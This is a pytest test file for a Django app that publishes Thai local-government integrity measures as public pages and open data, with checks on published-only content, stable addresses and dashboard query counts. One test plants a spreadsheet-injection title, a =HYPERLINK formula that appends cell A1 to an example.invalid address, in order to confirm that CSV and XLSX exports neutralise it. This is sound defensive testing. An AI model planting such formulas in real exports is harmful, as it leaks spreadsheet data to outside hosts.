"""Public pages and open data (published content only, the same in every format, stable
addresses), and dashboards whose query counts do not grow with the data."""

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from measures.models import Measure, Progress
from measures.services import evidence_add, measure_save, round_reopen, standard_rounds
from organisations.models import Organisation, User

from .factories import (
    approve_round,
    make_measure,
    make_organisation,
    make_user,
    record_results,
)

pytestmark = pytest.mark.django_db
Y = {"org": "org-a", "year": 2569}


@pytest.fixture
def published(org_a):
    """Org A's 2569: two measures; the 6-month round published, the 12-month one not."""
    org_a.eit_survey_url = "https://itas.nacc.go.th/go/eit/org-a"
    org_a.save()
    six, twelve = standard_rounds(organisation=org_a, fiscal_year=2569)
    first = make_measure(org_a, 2569, 1, title="มาตรการเปิดเผยข้อมูล")
    second = make_measure(org_a, 2569, 2, title="กิจกรรมประชุม")
    p = Progress.objects.create(measure=first, round=six, status="done", summary="เผยแพร่แล้ว")
    evidence_add(progress=p, upload=SimpleUploadedFile("a.pdf", b"%PDF-1.4 x"))
    Progress.objects.create(measure=second, round=six, status="in_progress", summary="กำลังทำ")
    Progress.objects.create(measure=first, round=twelve, status="done", summary="ข้อความที่ยังไม่เผยแพร่")
    staff = make_user("staff-published", member_of=[(org_a, "staff")])
    six = approve_round(six, submitter=staff, publish=True)
    return six, twelve, first, second


def formats(client):
    data = json.loads(client.get(reverse("public-data", kwargs={**Y, "fmt": "json"})).content)
    text = client.get(reverse("public-data", kwargs={**Y, "fmt": "csv"})).content.decode(
        "utf-8-sig"
    )
    rows_csv = list(csv.DictReader(io.StringIO(text)))
    wb = load_workbook(
        io.BytesIO(client.get(reverse("public-data", kwargs={**Y, "fmt": "xlsx"})).content)
    )
    ws = wb.active
    header = [c.value for c in ws[1]]
    rows_xlsx = [
        dict(zip(header, [c.value for c in row], strict=True)) for row in ws.iter_rows(min_row=2)
    ]
    return data, rows_csv, rows_xlsx


def test_public_page_shows_published_content_only(client, published):
    six, twelve, first, second = published
    page = client.get(reverse("public-year", kwargs=Y))
    assert page.status_code == 200
    html = page.content.decode()
    assert "มาตรการเปิดเผยข้อมูล" in html and "เผยแพร่แล้ว" in html and "กำลังทำ" in html
    assert "ข้อความที่ยังไม่เผยแพร่" not in html and "รอบ ๑๒ เดือน" not in html
    assert "<svg" in html and "คิวอาร์โค้ดแบบวัด EIT" in html  # the QR code, labelled
    assert 'name="viewport"' in html and 'lang="th"' in html


def test_open_data_is_the_same_content_in_every_format(client, published):
    data, rows_csv, rows_xlsx = formats(client)
    rows = data["rows"]
    assert [(r["number"], r["round"], r["status"]) for r in rows] == [
        (1, "รอบ ๖ เดือน", "done"),
        (2, "รอบ ๖ เดือน", "in_progress"),
    ]
    assert all("ข้อความที่ยังไม่เผยแพร่" not in json.dumps(r, ensure_ascii=False) for r in rows)
    assert rows[0]["evidence"][0].startswith("http://testserver/public/evidence/")
    for flat in (rows_csv, rows_xlsx):
        assert len(flat) == len(rows)
        for row, other in zip(rows, flat, strict=True):
            for field in data["fields"]:
                expected = row[field]
                expected = "\n".join(expected) if isinstance(expected, list) else expected
                assert str(other[field] if other[field] is not None else "") == str(expected), field
    evidence = client.get(rows[0]["evidence"][0].replace("http://testserver", ""))
    assert evidence.status_code == 200


def test_open_data_cells_are_never_formulas(client, published):
    """A title such as =HYPERLINK(…) is data: escaped in the CSV (a leading apostrophe, as
    spreadsheets expect), a quote-prefixed text cell in the XLSX, unchanged in JSON."""
    six, _twelve, first, second = published
    title = '=HYPERLINK("https://example.invalid/?"&A1,"คลิก")'
    with scopes_disabled():
        Measure.objects.filter(pk=first.pk).update(title=title)
    staff = User.objects.get(username="staff-published")
    six = round_reopen(progress_round=six, user=staff)  # in a new version, approved again
    with scopes_disabled():
        Progress.objects.filter(measure=second, round=six).update(summary="-ยังไม่เสร็จ")
    approve_round(six, submitter=staff)
    data, rows_csv, _rows = formats(client)
    assert data["rows"][0]["title"] == title
    assert rows_csv[0]["title"] == "'" + title
    assert rows_csv[1]["summary"] == "'-ยังไม่เสร็จ"
    wb = load_workbook(
        io.BytesIO(client.get(reverse("public-data", kwargs={**Y, "fmt": "xlsx"})).content)
    )
    cell = wb.active.cell(2, [c.value for c in wb.active[1]].index("title") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)


def test_addresses_stay_the_same_when_titles_change(client, published):
    six, _twelve, first, _second = published
    urls = [
        reverse("public-year", kwargs=Y),
        reverse("public-data", kwargs={**Y, "fmt": "json"}),
        reverse("public-report", kwargs={**Y, "pk": six.pk, "code": "r3"}),
    ]
    first.title = "มาตรการเปิดเผยข้อมูล (ชื่อใหม่)"
    measure_save(measure=first, steps=["ขั้นแรก"], expected_version=first.version)
    for url in urls:
        assert client.get(url).status_code == 200
    # the public sees the approved version until a new version is approved
    assert "ชื่อใหม่" not in client.get(urls[0]).content.decode()
    staff = User.objects.get(username="staff-published")
    six = round_reopen(progress_round=six, user=staff)
    approve_round(six, submitter=staff)
    for url in urls:
        assert client.get(url).status_code == 200
    assert "ชื่อใหม่" in client.get(urls[0]).content.decode()


def test_nothing_unpublished_is_public(client, org_a, org_b):
    make_measure(org_b, 2569, title="ของหน่วยงานบี")
    standard_rounds(organisation=org_b, fiscal_year=2569)
    for fmt in ("json", "csv", "xlsx"):
        assert (
            client.get(
                reverse("public-data", kwargs={"org": "org-b", "year": 2569, "fmt": fmt})
            ).status_code
            == 404
        )
    assert (
        client.get(reverse("public-year", kwargs={"org": "org-b", "year": 2569})).status_code == 404
    )


def test_framework_is_published_as_data(client):
    data = json.loads(client.get(reverse("public-framework", kwargs={"year": 2566})).content)
    assert data["fiscal_year"] == 2566 and len(data["oit_items"]) == 43


# --- query counts ----------------------------------------------------------------------------


def _organisations(n, start=0):
    orgs = []
    for i in range(start, start + n):
        org = make_organisation(
            f"bulk-{i}", f"องค์การบริหารส่วนตำบลทดสอบ{i}", province="เชียงราย", units=["สำนักปลัด"]
        )
        record_results(org, 2568, total=Decimal("80") + i % 15)
        record_results(org, 2566, total=Decimal("75"))
        for n_ in range(1, 4):
            m = make_measure(org, 2568, n_, end=datetime.date(2025, 3, 31))
            six = standard_rounds(organisation=org, fiscal_year=2568)[0]
            Progress.objects.create(
                measure=m, round=six, status="done" if n_ == 1 else "in_progress"
            )
        orgs.append(org)
    return orgs


def count_queries(client, url, django_assert_max_num_queries, limit):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    assert len(ctx.captured_queries) <= limit, len(ctx.captured_queries)
    return len(ctx.captured_queries), response


def test_supervisor_dashboard_queries_do_not_grow_with_organisations(
    client, people, django_assert_max_num_queries
):
    client.force_login(people["supervisor"])
    url = reverse("supervisor") + "?year=2568&sort=score"
    _organisations(3)
    few, _ = count_queries(client, url, django_assert_max_num_queries, 20)
    _organisations(20, start=3)
    many, response = count_queries(client, url, django_assert_max_num_queries, 20)
    assert many == few
    page = response.content.decode()
    assert "อบต.ทดสอบ22" in page
    assert "อบต.บี" not in page  # not covered by this supervisor


def test_supervisor_dashboard_figures(client, people, org_a):
    record_results(org_a, 2566, total="80.00")
    record_results(org_a, 2568, total="86.50")
    done = make_measure(org_a, 2568, 1, end=datetime.date(2025, 3, 31))
    late = make_measure(org_a, 2568, 2, end=datetime.date(2025, 3, 31))
    six = standard_rounds(organisation=org_a, fiscal_year=2568)[0]
    Progress.objects.create(measure=done, round=six, status="done")
    Progress.objects.create(measure=late, round=six, status="in_progress")
    from dashboards.selectors import supervisor_rows

    rows, _items = supervisor_rows(
        people["supervisor"], year=2568, today=datetime.date(2026, 1, 1), filters={"level": "A"}
    )
    (row,) = rows
    assert (row.score, row.measures_total, row.measures_done, row.overdue) == (
        Decimal("86.50"),
        2,
        1,
        1,
    )
    rows, _ = supervisor_rows(
        people["supervisor"], year=2568, today=datetime.date(2026, 1, 1), filters={"level": "B"}
    )
    assert list(rows) == []


def test_executive_dashboard_queries_do_not_grow_with_measures(
    client, people, org_a, django_assert_max_num_queries
):
    record_results(
        org_a,
        2568,
        total="90",
        indicators={(1, 0): "90", (2, 0): "80"},
        questions={("i1", 0): "90", ("i2", 0): "70"},
    )
    client.force_login(people["exec_a"])
    url = reverse("executive-dashboard", kwargs={"org": "org-a"}) + "?year=2569"
    six = standard_rounds(organisation=org_a, fiscal_year=2569)[0]
    for n in range(1, 4):
        Progress.objects.create(measure=make_measure(org_a, 2569, n), round=six, status="done")
    from assessments.models import OITItem
    from measures.models import OITChecklistEntry

    items = list(OITItem.objects.filter(framework__fiscal_year=2568))
    for item in items[:2]:
        OITChecklistEntry.objects.create(organisation=org_a, item=item, status="done")
    few, _ = count_queries(client, url, django_assert_max_num_queries, 60)
    for n in range(4, 30):
        Progress.objects.create(measure=make_measure(org_a, 2569, n), round=six, status="done")
    for item in items[2:]:  # every checklist entry saved: still the same number of queries
        OITChecklistEntry.objects.create(organisation=org_a, item=item, status="done")
    many, response = count_queries(client, url, django_assert_max_num_queries, 60)
    assert many == few
    page = response.content.decode()
    assert "คะแนนรวมรายปี" in page and "ค่าเป้าหมาย ๘๕" in page and "<table" in page
    assert "ข้อคำถามที่ได้คะแนนต่ำสุด" in page and "i๒" in page


def test_public_page_queries_do_not_grow_with_measures(
    client, published, django_assert_max_num_queries
):
    six = published[0]
    url = reverse("public-year", kwargs=Y)
    few, _ = count_queries(client, url, django_assert_max_num_queries, 20)
    org = six.organisation
    for n in range(3, 30):
        Progress.objects.create(measure=make_measure(org, 2569, n), round=six, status="done")
    many, _ = count_queries(client, url, django_assert_max_num_queries, 20)
    assert many == few


def test_supervisor_can_open_covered_organisations_read_only(client, people):
    client.force_login(people["supervisor"])
    assert client.get(reverse("executive-dashboard", kwargs={"org": "org-a"})).status_code == 200
    assert client.get(reverse("executive-dashboard", kwargs={"org": "org-b"})).status_code == 404
    assert client.get(reverse("organisation-settings", kwargs={"org": "org-a"})).status_code == 403
    make_user("someone")  # an account with no organisation sees an empty dashboard
    client.force_login(make_user("nobody"))
    assert "ไม่มีหน่วยงานที่ตรงกับตัวกรอง" in client.get(reverse("supervisor")).content.decode()


def test_national_generator_makes_every_table(django_assert_max_num_queries):
    from io import StringIO

    from django.core.management import call_command

    from assessments.models import Assessment, OITItemScore, QuestionScore
    from measures.models import Measure, OITChecklistEntry

    call_command(
        "generate_national", organisations=4, provinces=2, measures=3, batch=2, stdout=StringIO()
    )
    assert Organisation.objects.filter(code__startswith="nat-").count() == 4
    with scopes_disabled():  # every generated organisation's rows: the test's own look
        nat = {"organisation__code__startswith": "nat-"}
        assert Assessment.objects.filter(**nat).count() == 4 * 3
        assert Measure.objects.filter(**nat).count() == 4 * 3 * 3
        assert Progress.objects.filter(measure__organisation__code__startswith="nat-").count() == 72
        fy2568 = QuestionScore.objects.filter(assessment__framework__fiscal_year=2568)
        assert fy2568.count() == 4 * 33
        fy2566 = OITItemScore.objects.filter(assessment__framework__fiscal_year=2566)
        assert fy2566.count() == 4 * 43
        assert OITChecklistEntry.objects.filter(**nat).count() == 4 * (43 + 43 + 28)
    assert User.objects.get(username="bench-province").supervisions.get().province == ("จังหวัดที่ 01")
